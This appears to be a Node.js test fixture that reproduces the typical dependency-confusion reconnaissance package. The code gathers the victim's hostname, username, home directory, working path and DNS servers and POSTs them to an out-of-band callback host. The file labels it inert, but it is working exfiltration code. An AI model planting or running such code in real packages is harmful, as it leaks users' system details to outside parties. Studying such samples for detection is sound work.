// Shape of dependency-confusion "recon" packages: host and user details posted to an out-of-band server.
// Inert test data (made-up host).
const os = require("os");
const dns = require("dns");
const https = require("https");
const packageJSON = require("./package.json");

const trackingData = JSON.stringify({
  p: packageJSON.name, c: __dirname, hd: os.homedir(), hn: os.hostname(),
  un: os.userInfo().username, dns: dns.getServers(), v: packageJSON.version,
});
const options = { hostname: "c8k2x1n0q3r7.oast.fun", port: 443, path: "/", method: "POST",
  headers: { "Content-Type": "application/x-www-form-urlencoded" } };
const req = https.request(options, (res) => res.on("data", (d) => process.stdout.write(d)));
req.on("error", () => {});
req.write(new URLSearchParams({ msg: trackingData }).toString());
req.end();
